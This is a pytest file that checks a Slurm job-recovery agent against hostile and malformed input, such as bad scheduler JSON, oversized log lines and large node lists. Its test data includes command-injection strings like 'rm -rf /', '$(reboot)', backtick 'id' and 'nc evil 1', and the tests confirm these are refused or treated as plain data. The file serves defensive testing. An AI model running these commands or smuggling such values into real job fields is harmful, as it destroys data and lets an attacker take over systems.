"""Hostile and malformed input: never a crash, never a shell, never more trust
than the input deserves."""
from __future__ import annotations

import json
import subprocess

import pytest

from recovery_agent.config import from_mapping
from recovery_agent.detect.patterns import load_rules
from recovery_agent.detect.scanner import Scanner
from recovery_agent.errors import SchedulerError
from recovery_agent.inputs.logline import MemoryCursorStore
from recovery_agent.inputs.tail import Tailer
from recovery_agent.scheduler.cli_backend import CliScheduler
from recovery_agent.scheduler.runner import SlurmRunner
from recovery_agent.store import Store
from recovery_agent.watch import Watcher
from slurm_hooks import spec as specs
from tests.conftest import slurm_fixture
from tests.unit.scripted import Script as Listing

EVIL = ["recovery=prod;rm -rf /", "recovery=prod:action,ckpt=/x$(reboot)",
        "recovery=prod`id`", "recovery=prod:action,notify=http://x/`id`",
        "recovery=prod|nc evil 1", "recovery=prod:action,max-restarts=1;reboot",
        "recovery=\u202eprod", "recovery=prod\x00:action"]


@pytest.mark.resilience("hostile input: a --comment=recovery= spec with injection attempts",
                        "refused, logged, the job only monitored")
@pytest.mark.parametrize("comment", EVIL)
def test_comment_spec_injection_is_refused_and_only_monitored(tmp_path, comment):
    raw = specs.from_comment(comment)
    if raw is not None:
        with pytest.raises(specs.SpecError):
            specs.parse(raw)


@pytest.mark.resilience("hostile input: shell metacharacters and unicode in names, comments and paths",
                        "stored and shown as data, never interpreted")
def test_hostile_job_names_and_comments_are_stored_as_data(tmp_path):
    from recovery_agent.scheduler.base import Job
    cfg = from_mapping({"agent": {"cluster": "c1"},
                        "environments": {"prod": {"mode": "action"}}})
    store = Store(tmp_path / "r.db")
    out = tmp_path / "out.log"
    out.write_text("step 1\n")
    name = "$(reboot); `id` | rm -rf / && 训练 \u202e '\"<script>"
    jobs = [Job(job_id="7", numeric_id=7, name=name, state="RUNNING", submit_time=1,
                comment="recovery=prod:action,ckpt=/x$(reboot)", stdout=str(out)),
            Job(job_id="8", numeric_id=8, name=name, state="RUNNING", submit_time=1,
                comment="recovery=prod:action", stdout=str(out))]
    watcher = Watcher(cfg, store, Listing(jobs), Scanner(load_rules(), engine="re"),
                      Tailer(MemoryCursorStore()))
    watcher.cycle()
    evil, fine = store.find_job("c1", "7"), store.find_job("c1", "8")
    assert evil["name"] == name and evil["mode"] == "monitor"   # a bad spec never acts
    assert fine["mode"] == "action"


def _fake_squeue(tmp_path, text: str) -> CliScheduler:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (tmp_path / "out.json").write_text(text)
    script = bin_dir / "squeue"
    script.write_text(f"#!/bin/sh\nexec cat {tmp_path / 'out.json'}\n")
    script.chmod(0o755)
    return CliScheduler(SlurmRunner(bin_dir=str(bin_dir)))


@pytest.mark.parametrize("text", ['{"jobs": [', "not json at all", '{"jobs": "x"}', "[]",
                                  '{"meta": 5, "jobs": {}}', ""])
@pytest.mark.resilience("hostile input: malformed JSON from squeue/sinfo",
                        "a SchedulerError naming the command, never a crash")
def test_malformed_squeue_output_is_a_scheduler_error(tmp_path, text):
    with pytest.raises(SchedulerError, match="squeue"):
        _fake_squeue(tmp_path, text).list_jobs()


@pytest.mark.resilience("hostile input: malformed JSON from squeue/sinfo",
                        "one bad job record is skipped, the others are watched")
def test_one_malformed_record_does_not_hide_the_others(tmp_path):
    doc = slurm_fixture("22.05", "squeue_all.json")
    good = len(doc["jobs"])
    doc["jobs"] += [None, {"job_id": "abc"},
                    {"job_id": 5, "restart_cnt": "x", "nodes": 7, "standard_output": 5}]
    jobs = _fake_squeue(tmp_path, json.dumps(doc)).list_jobs()
    assert len(jobs) == good and all(j.numeric_id for j in jobs)


@pytest.mark.resilience("hostile input: shell metacharacters and unicode in names, comments and paths",
                        "the argv seam passes them verbatim, no shell")
def test_runner_never_uses_a_shell_even_for_metacharacters(tmp_path):
    runner = SlurmRunner(bin_dir=str(tmp_path))
    echo = tmp_path / "scontrol"
    echo.write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    echo.chmod(0o755)
    argv = ["scontrol", "update", "jobid=7", "Comment=$(touch /tmp/pwned); `id` | x"]
    out = runner.run(argv).stdout.splitlines()
    assert out == argv[1:]
    with pytest.raises(TypeError):
        runner.run("scontrol show job 7; reboot")


@pytest.mark.resilience("hostile input: 10 MB log lines",
                        "capped at 64 KiB; the next line still arrives")
def test_a_ten_megabyte_line_is_capped_not_swallowed(tmp_path):
    log = tmp_path / "job.out"
    with open(log, "w") as fh:
        fh.write("x" * (10 << 20) + " CUDA error: an illegal memory access\nstep 2\n")
    tailer = Tailer(MemoryCursorStore())
    tailer.add(log, "k")
    lines = []
    for _ in range(200):
        lines += tailer.poll()
        if any(line.text == "step 2" for line in lines):
            break
    assert lines[-1].text == "step 2"
    assert max(len(line.text) for line in lines) <= 64 * 1024


@pytest.mark.resilience("hostile input: shell metacharacters and unicode in names, comments and paths",
                        "the hook wrapper never evaluates the comment")
def test_hook_wrapper_shell_fast_path_does_not_evaluate_the_comment(tmp_path):
    """The dev cluster's hook wrapper reads SLURM_JOB_COMMENT in a case pattern only."""
    from recovery_devtools.devcluster.config import ClusterSpec, Layout, hook_wrapper
    lay = Layout(tmp_path)
    script = tmp_path / "prolog"
    script.write_text(hook_wrapper(ClusterSpec(hooks_bin="/nonexistent"), lay, "prolog"))
    script.chmod(0o755)
    marker = tmp_path / "pwned"
    env = {"PATH": "/usr/bin:/bin", "SLURM_JOB_COMMENT": f"$(touch {marker}) `touch {marker}`"}
    result = subprocess.run([str(script)], env=env, capture_output=True, timeout=10)
    assert result.returncode == 0 and not marker.exists()


@pytest.mark.resilience("hostile input: malformed JSON from squeue/sinfo",
                        "sinfo's too")
@pytest.mark.parametrize("text", ['{"nodes": 5}', '{"nodes": [null]}', "[1, 2]"])
def test_malformed_sinfo_output_is_a_scheduler_error(tmp_path, text):
    sched = _fake_squeue(tmp_path, text)
    (tmp_path / "bin" / "sinfo").write_text(f"#!/bin/sh\nexec cat {tmp_path / 'out.json'}\n")
    (tmp_path / "bin" / "sinfo").chmod(0o755)
    with pytest.raises(SchedulerError, match="sinfo"):
        sched.list_nodes()


@pytest.mark.resilience("hostile input: huge node lists from squeue",
                        "a 20,000-node hostlist expands once, correctly, and the watch "
                        "cycle handles the job")
def test_a_twenty_thousand_node_job(tmp_path):
    doc = slurm_fixture("22.05", "squeue_all.json")
    big = next(j for j in doc["jobs"] if j["job_state"] == "RUNNING")
    big.update(nodes="gpu[00000-19999]", node_count=20000, comment="recovery=prod",
               standard_output=str(tmp_path / "big.out"))
    (tmp_path / "big.out").write_text("step 1\n")
    sched = _fake_squeue(tmp_path, json.dumps(doc, indent=2))
    job = next(j for j in sched.list_jobs() if j.numeric_id == big["job_id"])
    assert len(job.nodes) == 20000 and job.nodes[0] == "gpu00000" \
        and job.nodes[-1] == "gpu19999"
    cfg = from_mapping({"agent": {"cluster": "c1"}})
    store = Store(tmp_path / "r.db")
    watcher = Watcher(cfg, store, sched, Scanner(load_rules(), engine="re"),
                      Tailer(MemoryCursorStore()))
    assert watcher.run_once() is True
    assert any(w.job_id == job.job_id and len(w.nodes) == 20000
               for w in watcher.watches.values())


def test_an_invalid_comment_spec_is_on_the_timeline(tmp_path):
    from recovery_agent.scheduler.base import Job
    cfg = from_mapping({"agent": {"cluster": "c1"}})
    store = Store(tmp_path / "r.db")
    job = Job(job_id="9", numeric_id=9, state="RUNNING", submit_time=100, start_time=101,
              comment="recovery=prod;rm -rf /", nodes=("n1",), user="eve", name="x")
    watcher = Watcher(cfg, store, Listing([job]), Scanner(load_rules(), engine="re"),
                      Tailer(MemoryCursorStore()))
    assert watcher.run_once()
    (row,) = store.db["jobs"].rows
    assert row["mode"] == "monitor"
    (event,) = store.db["events"].rows_where("kind = 'spec_invalid'")
    assert "monitoring only" in event["message"] and event["source"] == "poller"
